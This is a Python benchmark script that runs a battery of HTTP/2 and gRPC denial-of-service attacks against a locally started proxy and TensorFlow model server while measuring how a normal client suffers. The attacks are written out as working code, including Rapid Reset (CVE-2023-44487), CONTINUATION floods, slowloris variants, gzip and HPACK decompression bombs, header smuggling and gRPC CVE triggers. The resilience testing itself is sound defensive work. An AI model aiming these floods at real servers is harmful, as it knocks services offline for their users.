"""Attacks the proxy, and the model server directly, over HTTP/2 while a well-behaved client goes on.

    python benchmarks/attacks.py --json [--seconds=S] [--only=NAME,...] [--targets=proxy,server] [--quick]

Each attack runs for some seconds in a process of its own with low priority, so that it is the attacked process that
slows the client down and not the attacker's CPU time. The client is the load generator with 200 requests/s. Its p99 is
compared with the median p99 of the same client without an attack, which is measured before each attack.

`crashes`: how often the attacked process ended. `victim_failures`: requests of the well-behaved client that failed.
`rss_growth`: the largest resident memory during the attack, less that before it. `sent`: frames, calls or connections
that the attacker got rid of. The bars are those of the proxy; the rows `server` show what reaches a server that is not
behind it.
"""

from __future__ import annotations

import argparse
import contextlib
import gzip
import multiprocessing
import os
import resource
import socket
import struct
import sys
import tempfile
import threading
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

RATE = 200
QUICK = ("pings", "resets", "unread answers", "gzip bombs", "huffman", "cve te")

DATA, HEADERS, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
PREDICT = "/tensorflow.serving.PredictionService/Predict"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Returns the bytes of a frame."""
    return struct.pack(">HBBBI", len(payload) >> 8, len(payload) & 0xFF, kind, flags, stream) + payload


def literal(name: bytes, value: bytes, first: int = 0x00) -> bytes:
    """Returns a header as a literal; `first` 0x40 lets it enter the table."""
    return bytes((first,)) + _length(len(name)) + name + _length(len(value)) + value


def _length(size: int) -> bytes:
    if size < 0x7F:
        return bytes((size,))
    out, size = b"\x7f", size - 0x7F
    while size > 0x7F:
        out, size = out + bytes((size & 0x7F | 0x80,)), size >> 7
    return out + bytes((size,))


def head(path: str = PREDICT, scheme: bytes = b"http", te: bytes = b"trailers", **more: str) -> bytes:
    """Returns the block of headers of a call; `more` are further headers."""
    fields = [(b":method", b"POST"), (b":scheme", scheme), (b":path", path.encode()), (b":authority", b"x")]
    fields += [(b"te", te), (b"content-type", b"application/grpc")]
    fields += [(name.replace("_", "-").encode(), value.encode()) for name, value in more.items()]
    return b"".join(literal(name, value) for name, value in fields)


def headers(stream: int, block: bytes, flags: int = 0) -> bytes:
    """Returns the frames of a block of headers, of any size."""
    pieces = [block[begin : begin + 16384] for begin in range(0, len(block), 16384)]
    frames = [frame(HEADERS, flags | (END_HEADERS if len(pieces) == 1 else 0), stream, pieces[0])]
    for index, piece in enumerate(pieces[1:], 2):
        frames.append(frame(CONTINUATION, END_HEADERS if index == len(pieces) else 0, stream, piece))
    return b"".join(frames)


def framed(message: bytes, compressed: int = 0) -> bytes:
    """Returns a message with gRPC's prefix."""
    return struct.pack(">BI", compressed, len(message)) + message


class Attacker:
    """What an attack needs: connections to the target, an end, and a request that a server answers."""

    def __init__(self, target: str, seconds: float, request: bytes) -> None:
        host, _, port = target.rpartition(":")
        self.address = host, int(port)
        self.end = time.monotonic() + seconds
        self.request = request
        self.sent = 0

    def connect(self, settings: bytes = b"", begin: bool = True) -> socket.socket:
        """Opens a connection and sends what a client begins with."""
        connection = socket.socket()
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)  # what is not read does not pile up here
        connection.settimeout(0.5)
        connection.connect(self.address)
        if begin:
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        return connection

    def going(self) -> bool:
        """Returns whether the attack goes on."""
        return time.monotonic() < self.end

    def flood(self, make: Callable[[int], bytes], count: int, settings: bytes = b"", start: bytes = b"") -> None:
        """Sends what make(stream number) returns, again and again and without reading; begins anew when cut off."""
        while self.going():
            with contextlib.suppress(OSError), self.connect(settings) as connection:
                connection.sendall(start)
                stream = 3
                while self.going():
                    connection.sendall(make(stream))
                    self.sent += count
                    stream += 2 * count
            time.sleep(0.005)

    def hold(self, connections: int, start: bytes, piece: bytes, settings: bytes = b"", at_once: int = 20) -> None:
        """Keeps many connections open that send `start` and then, slowly, pieces; replaces those that are cut off."""
        opened: list[socket.socket] = []
        while self.going():
            alive = []
            for connection in opened:
                try:
                    connection.sendall(piece)
                    alive.append(connection)
                except OSError:
                    connection.close()
            opened = alive
            for _ in range(min(at_once, connections - len(opened))):
                with contextlib.suppress(OSError):
                    connection = self.connect(settings)
                    connection.sendall(start)
                    opened.append(connection)
                    self.sent += 1
            time.sleep(0.25)
        for connection in opened:
            connection.close()

    def call(self, block: bytes, body: bytes) -> None:
        """Makes one call after the other on new connections, and waits a moment for each answer."""
        while self.going():
            with contextlib.suppress(OSError), self.connect() as connection:
                connection.sendall(headers(1, block) + frame(DATA, END_STREAM, 1, body))
                self.sent += 1
                connection.settimeout(0.2)
                while connection.recv(65536):
                    pass


def pings(attacker: Attacker) -> None:
    """Pings whose answers are not read."""
    attacker.flood(lambda _: frame(PING, 0, 0, bytes(8)) * 1000, 1000)


def settings(attacker: Attacker) -> None:
    """Settings whose acknowledgements are not read."""
    attacker.flood(lambda _: frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535)) * 1000, 1000)


def resets(attacker: Attacker) -> None:
    """Calls that are given up at once (CVE-2023-44487)."""
    body = framed(attacker.request)

    def make(stream: int) -> bytes:
        calls = []
        for number in range(stream, stream + 200, 2):
            calls.append(headers(number, head()) + frame(DATA, END_STREAM, number, body))
            calls.append(frame(RST_STREAM, 0, number, bytes(4)))
        return b"".join(calls)

    attacker.flood(make, 100)


def empty_frames(attacker: Attacker) -> None:
    """Data frames without data."""
    attacker.flood(lambda _: frame(DATA, 0, 1) * 1000, 1000, start=headers(1, head()))


def continuations(attacker: Attacker) -> None:
    """Headers that never end (CVE-2024-28182)."""
    start = frame(HEADERS, 0, 1, head())
    attacker.flood(lambda _: frame(CONTINUATION, 0, 1, literal(b"a", b"b" * 100)) * 100, 100, start=start)


def unread_answers(attacker: Attacker) -> None:
    """Calls whose answers are not read, on more and more connections with small buffers."""
    body = framed(attacker.request)
    more = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 2**30))
    calls = b"".join(headers(n, head()) + frame(DATA, END_STREAM, n, body) for n in range(1, 201, 2))
    attacker.hold(100, more + calls, frame(PING, 0, 0, bytes(8)), struct.pack(">HI", 4, 2**31 - 1), at_once=1)


def zero_windows(attacker: Attacker) -> None:
    """Calls whose answers have no window to be sent in."""
    body = framed(attacker.request)
    calls = b"".join(headers(n, head()) + frame(DATA, END_STREAM, n, body) for n in range(1, 41, 2))
    attacker.hold(20, calls, frame(PING, 0, 0, bytes(8)), struct.pack(">HI", 4, 0))


def window_updates(attacker: Attacker) -> None:
    """Window updates of one byte while many answers wait for windows."""
    body = framed(attacker.request)
    calls = b"".join(headers(n, head()) + frame(DATA, END_STREAM, n, body) for n in range(1, 21, 2))
    piece = b"".join(frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 1)) for n in range(1, 21, 2)) * 100
    attacker.flood(lambda _: piece, 1000, struct.pack(">HI", 4, 0), calls)


def slow_headers(attacker: Attacker) -> None:
    """Headers that come byte by byte."""
    start = frame(HEADERS, END_HEADERS, 1, bytes(16000))[:20]
    attacker.hold(500, start, b"\0")


def slow_bodies(attacker: Attacker) -> None:
    """Messages that come byte by byte, after a first part of 100 KB."""
    start = headers(1, head()) + frame(DATA, 0, 1, struct.pack(">BI", 0, 2**24))
    start += b"".join(frame(DATA, 0, 1, bytes(10000)) for _ in range(6))
    attacker.hold(500, start, frame(DATA, 0, 1, b"\0"))


def large_bodies(attacker: Attacker) -> None:
    """Messages of which all but the end comes, on many streams and connections."""
    start = b"".join(headers(n, head()) + frame(DATA, 0, n, struct.pack(">BI", 0, 2**22)) for n in range(1, 33, 2))
    piece = b"".join(frame(DATA, 0, n, bytes(16384)) for n in range(1, 33, 2))
    _together(8, lambda: attacker.flood(lambda _: piece, 16, start=start))


def bodies_in_windows(attacker: Attacker) -> None:
    """Messages of which all but the end comes, as far as the windows of HTTP/2 allow; they are kept open."""
    most = 2**22  # bytes of each message

    def hold() -> None:
        while attacker.going():
            with contextlib.suppress(OSError), attacker.connect() as connection:
                connection.settimeout(0.02)
                left = dict.fromkeys(range(1, 33, 2), most - 1)
                windows = dict.fromkeys((0, *left), 65535 - 5)  # 0: that of the connection
                for stream in left:
                    start = frame(DATA, 0, stream, struct.pack(">BI", 0, most))
                    connection.sendall(headers(stream, head()) + start)
                windows[0] -= 5 * len(left)
                received = b""
                while attacker.going():
                    for stream in left:
                        size = min(left[stream], windows[stream], windows[0], 16384)
                        if size > 0:
                            connection.sendall(frame(DATA, 0, stream, bytes(size)))
                            attacker.sent += 1
                            left[stream] -= size
                            windows[stream] -= size
                            windows[0] -= size
                    with contextlib.suppress(TimeoutError):
                        received += connection.recv(65536)
                    while len(received) >= 9 and len(received) >= 9 + int.from_bytes(received[:3], "big"):
                        end = 9 + int.from_bytes(received[:3], "big")
                        stream = int.from_bytes(received[5:9], "big")
                        if received[3] == WINDOW_UPDATE and stream in windows:
                            windows[stream] += int.from_bytes(received[9:13], "big")
                        if received[3] == RST_STREAM:
                            left.pop(stream, None)
                        received = received[end:]

    _together(8, hold)


def gzip_bombs(attacker: Attacker) -> None:
    """Messages that unpack to 200 MB of zeros."""
    body = framed(_bomb(), 1)
    frames = b"".join(frame(DATA, 0, 1, body[begin : begin + 16384]) for begin in range(0, len(body), 16384))
    call = headers(1, head(grpc_encoding="gzip")) + frames + frame(DATA, END_STREAM, 1)

    def bomb() -> None:
        while attacker.going():
            with contextlib.suppress(OSError), attacker.connect() as connection:
                connection.sendall(call)
                attacker.sent += 1
                while attacker.going() and connection.recv(65536):
                    pass

    _together(4, bomb)


def huffman(attacker: Attacker) -> None:
    """Headers of 60 KB in Huffman codes of 30 bits."""
    value = b"\xff\xff\xff\xf0" * 14000  # the code of the byte 10 and two bits, again and again
    block = head() + b"\0\1a" + bytes((0xFF,)) + _length(len(value))[1:] + value
    attacker.flood(lambda stream: headers(stream, block, END_STREAM), 1)


def malformed_headers(attacker: Attacker) -> None:
    """Headers that may not be forwarded: line ends, capital letters, no name, bytes that are not ASCII."""
    bad = [(b"a", b"b\r\nc: d"), (b"A", b"b"), (b"", b"b"), (b"a b", b"c"), (b"x", b"\0"), (b"y", b"\xff\xfe")]
    bad += [(b":path", b"/x"), (b"connection", b"close"), (b"z-bin", b"!!!"), (b"transfer-encoding", b"chunked")]
    body = framed(attacker.request)

    def make(stream: int) -> bytes:
        calls = []
        for index, (name, value) in enumerate(bad):
            number = stream + 2 * index
            calls.append(headers(number, head() + literal(name, value)) + frame(DATA, END_STREAM, number, body))
        return b"".join(calls)

    attacker.flood(make, len(bad))


def oversized_headers(attacker: Attacker) -> None:
    """Headers that are short on the wire and long when decoded, because they name an entry of the table often."""
    start = headers(1, head() + literal(b"a", b"b" * 4000, 0x40), END_STREAM)
    attacker.flood(lambda stream: headers(stream, head() + b"\xbe" * 1000, END_STREAM), 1, start=start)


def error_replies(attacker: Attacker) -> None:
    """Short frames with long answers that are not read: a long path of the table, with bytes that have to be quoted."""
    path = b"/" + b"\xff" * 3900
    start = literal(b":method", b"POST") + literal(b":scheme", b"http") + literal(b":path", path, 0x40)
    start += literal(b":authority", b"x", 0x40) + literal(b"content-type", b"application/grpc", 0x40)
    short = b"\x83\x86\xc0\xbf\xbe"

    def make(stream: int) -> bytes:
        return b"".join(headers(number, short, END_STREAM) for number in range(stream, stream + 200, 2))

    attacker.flood(make, 100, start=headers(1, start, END_STREAM))


def idle_connections(attacker: Attacker) -> None:
    """Ten thousand connections on which nothing comes, opened during the whole attack."""
    opened: list[socket.socket] = []
    begin = time.monotonic()
    while attacker.going():
        share = (time.monotonic() - begin) / (attacker.end - begin)
        while len(opened) < 10_000 * share:
            with contextlib.suppress(OSError):
                opened.append(attacker.connect(begin=len(opened) % 2 == 0))
                attacker.sent += 1
        time.sleep(0.01)
    for connection in opened:
        connection.close()


def many_fields(attacker: Attacker) -> None:
    """Messages of a million empty fields."""
    body = framed(b"\x7a\x00" * 1_000_000)
    frames = b"".join(frame(DATA, 0, 1, body[begin : begin + 16384]) for begin in range(0, len(body), 16384))
    call = headers(1, head()) + frames + frame(DATA, END_STREAM, 1)
    while attacker.going():
        with contextlib.suppress(OSError), attacker.connect() as connection:
            connection.sendall(call)
            attacker.sent += 1
            while attacker.going() and connection.recv(65536):
                pass


_LONG = {f"long{index}": "v" * 1500 for index in range(8)}  # 12 KB: above the limit of a server on gRPC


def cve_te(attacker: Attacker) -> None:
    """CVE-2023-1428: a `te` header that is not `trailers`, with more than 8 KB of headers."""
    attacker.call(head(te=b"deadly", **_LONG), framed(attacker.request))


def cve_scheme(attacker: Attacker) -> None:
    """CVE-2023-32731 and its kin: a scheme that does not exist, with more than 8 KB of headers."""
    attacker.call(head(scheme=b"deadly", **_LONG), framed(attacker.request))


def cve_grpclb(attacker: Attacker) -> None:
    """CVE-2023-32732 and its kin: grpclb_client_stats, alone and with more than 8 KB of headers."""
    stats = literal(b"grpclb_client_stats", b"deadly")
    half = Attacker(":".join(map(str, attacker.address)), (attacker.end - time.monotonic()) / 2, attacker.request)
    half.call(head() + stats, framed(attacker.request))
    attacker.sent += half.sent
    attacker.call(head(**_LONG) + stats, framed(attacker.request))


ATTACKS: dict[str, Callable[[Attacker], None]] = {
    attack.__name__.replace("_", " "): attack
    for attack in (
        pings,
        settings,
        resets,
        empty_frames,
        continuations,
        unread_answers,
        zero_windows,
        window_updates,
        slow_headers,
        slow_bodies,
        large_bodies,
        bodies_in_windows,
        gzip_bombs,
        huffman,
        malformed_headers,
        oversized_headers,
        error_replies,
        idle_connections,
        many_fields,
        cve_te,
        cve_scheme,
        cve_grpclb,
    )
}


def _together(count: int, run: Callable[[], None]) -> None:
    threads = [threading.Thread(target=run) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def _bomb() -> bytes:
    return gzip.compress(bytes(200_000_000), 9)


def main() -> None:
    """Runs the benchmark."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--json", action="store_true", help="print one JSON object as the last line")
    parser.add_argument("--seconds", type=float, default=10.0, help="seconds of each attack")
    parser.add_argument("--only", help="names of the attacks to run, with commas between them")
    parser.add_argument("--targets", default="proxy,server", help="what to attack: proxy, server or both")
    parser.add_argument("--quick", action="store_true", help="run a few attacks on the proxy for 2 s each")
    arguments = parser.parse_args()
    names = list(ATTACKS)
    if arguments.quick:
        arguments.seconds, arguments.targets, names = 2.0, "proxy", list(QUICK)
    if arguments.only:
        names = arguments.only.split(",")
        for name in names:
            if name not in ATTACKS:
                parser.error(f"--only: {name!r} is not an attack; the attacks are {', '.join(ATTACKS)}")
    import report
    import servers

    result = report.Report("attacks", 1, servers.hardware())
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    with tempfile.TemporaryDirectory() as folder:
        measure(result, Path(folder), names, arguments.targets.split(","), arguments.seconds)
    result.print(arguments.json)


def measure(result: Any, folder: Path, names: list[str], targets: list[str], seconds: float) -> None:
    """Fills the report."""
    import servers

    servers.write_model(folder / "model" / "1")
    requests = folder / "requests"
    servers.write_requests(requests, servers.queries())
    request = servers.request(servers.queries()[:1], "serving_default").SerializeToString()
    for target in targets:
        found = []
        with Target(target, folder) as attacked:
            for name in names:
                found.append((name, attacked.attack(name, requests, request, seconds)))
        usual = sorted(row["p99_before"] for _, row in found)[len(found) // 2]
        for name, row in found:
            result.add(target, name, "crashes", row["crashes"], "times")
            result.add(target, name, "victim failures", row["failed"], "requests", errors=row["errors"])
            result.add(target, name, "rss growth", row["rss"], "MB")
            result.add(target, name, "victim p99", row["p99"], "ms", usual=usual)
            result.add(target, name, "sent", row["sent"], "things")
        worst = {
            "crashes": sum(row["crashes"] for _, row in found),
            "victim_failures": sum(row["failed"] for _, row in found),
            "rss_growth_mb_worst": max(row["rss"] for _, row in found),
            "victim_p99_ratio_worst": max(row["p99"] for _, row in found) / usual,
        }
        result.bars |= worst if target == "proxy" else {f"{target}_{name}": value for name, value in worst.items()}


class Target:
    """Runs the process under attack: a model server, or a proxy. Starts the process again if it ends."""

    def __init__(self, name: str, folder: Path) -> None:
        self._name, self._folder = name, folder
        self._stack = contextlib.ExitStack()
        self._process: Any = None

    def __enter__(self) -> Target:  # noqa: D105
        self._start()
        return self

    def __exit__(self, *_: object) -> None:  # noqa: D105
        self._stack.close()

    def _start(self) -> None:
        import servers

        self._stack.close()
        self._process = self._stack.enter_context(servers.model_server(self._folder / "model"))
        if self._name == "proxy":
            command = [sys.executable, "-m", "dpsr_common.command_line", "proxy", "--port=0"]
            command.append(f"--backend={self._process.target}")
            self._process = servers.Server(command, "proxy ready on ")
            self._stack.callback(self._process.stop)

    def attack(self, name: str, requests: Path, request: bytes, seconds: float) -> dict[str, Any]:
        """Runs one attack beside the client."""
        import servers

        load = (f"--rate={RATE}", "--warmup_seconds=0.2")
        (before,) = servers.load(self._process, requests, f"--seconds={max(seconds / 3, 1)}", *load)
        rss = self._process.rss_mib()
        sent = multiprocessing.Value("q", 0)
        attacking = multiprocessing.get_context("fork").Process(
            target=_attack, args=(name, self._process.target, seconds, request, sent)
        )
        with _Memory(self._process) as memory:
            attacking.start()
            try:
                (during,) = servers.load(self._process, requests, f"--seconds={seconds - 0.3}", *load)
            except RuntimeError as error:
                during = {"failed": RATE, "unsent": 0, "errors": str(error)[-500:], "latency_us": {"p99": 1e9}}
            attacking.join()
        crashed = self._process.process.poll() is not None
        if crashed:
            self._start()
        return {
            "crashes": int(crashed),
            "failed": during["failed"] + during["unsent"],
            "errors": during["errors"],
            "rss": max(memory.most - rss, 0.0) * 1.048576,
            "p99": during["latency_us"]["p99"] / 1e3,
            "p99_before": before["latency_us"]["p99"] / 1e3,
            "sent": sent.value,
        }


class _Memory:
    """Watches the resident memory of a process."""

    def __init__(self, server: Any) -> None:
        self._server, self._stop = server, threading.Event()
        self.most = 0.0
        self._thread = threading.Thread(target=self._watch)

    def _watch(self) -> None:
        while not self._stop.wait(0.05):
            with contextlib.suppress(OSError, ValueError):
                self.most = max(self.most, self._server.rss_mib())

    def __enter__(self) -> _Memory:
        self._thread.start()
        return self

    def __exit__(self, *_: object) -> None:
        self._stop.set()
        self._thread.join()


def _attack(name: str, target: str, seconds: float, request: bytes, sent: Any) -> None:
    os.nice(19)
    attacker = Attacker(target, seconds, request)
    ATTACKS[name](attacker)
    sent.value = attacker.sent


if __name__ == "__main__":
    main()
